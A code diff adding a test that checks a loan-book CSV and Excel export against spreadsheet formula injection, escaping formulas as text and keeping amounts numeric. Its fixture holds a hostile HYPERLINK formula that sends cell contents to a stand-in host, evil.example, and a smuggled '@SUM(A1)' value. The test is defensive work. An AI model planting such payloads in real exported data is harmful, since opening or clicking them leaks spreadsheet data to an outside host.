@@ -15,9 +15,12 @@ from openpyxl import load_workbook
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
+from tests.accounts import ENTERPRISE_CODE
 from tests.market.conftest import Auth, apply, need_payload, publish
 from xinyidai.core import clock
 from xinyidai.market.models import Loan, Repayment
+from xinyidai.registry import service as registry_service
+from xinyidai.registry.schemas import EnterpriseIn
 
 
 def _approved(client: TestClient, auth: Auth, **terms: Any) -> dict[str, Any]:
@@ -216,3 +219,32 @@ def test_the_loan_book_exports_as_csv_and_excel(
         client.get("/api/v1/institution/loan-book?format=pdf", headers=auth("bank")).status_code
         == 422
     )
+
+
+def test_the_loan_book_exports_formulas_as_text_and_money_as_numbers(
+    client: TestClient, auth: Auth, signed: None, session: Session
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    registry_service.upsert(
+        session,
+        data=EnterpriseIn(credit_code=ENTERPRISE_CODE, name=hostile, region_code="450103"),
+    )
+    session.commit()
+    app = _approved(client, auth)
+    _disburse(client, auth, app["id"], contract_number="@SUM(A1)")
+    as_csv = client.get("/api/v1/institution/loan-book", headers=auth("bank"))
+    rows = list(csv.DictReader(io.StringIO(as_csv.text.lstrip("\ufeff"))))
+    assert [(r["contract_number"], r["enterprise_name"]) for r in rows] == [
+        ("'@SUM(A1)", "'" + hostile)
+    ]
+    assert rows[0]["principal"] == "120000.00"
+    as_xlsx = client.get("/api/v1/institution/loan-book?format=xlsx", headers=auth("bank"))
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    assert sheet is not None
+    cells = list(sheet.iter_rows())
+    assert all(cell.data_type != "f" for row in cells for cell in row)
+    assert (cells[1][0].value, cells[1][2].value) == ("@SUM(A1)", hostile)
+    assert (cells[1][0].data_type, cells[1][2].data_type) == ("s", "s")
+    principal = cells[1][6]
+    assert (principal.data_type, principal.number_format) == ("n", "#,##0.00")
+    assert Decimal(str(principal.value)) == Decimal("120000.00")
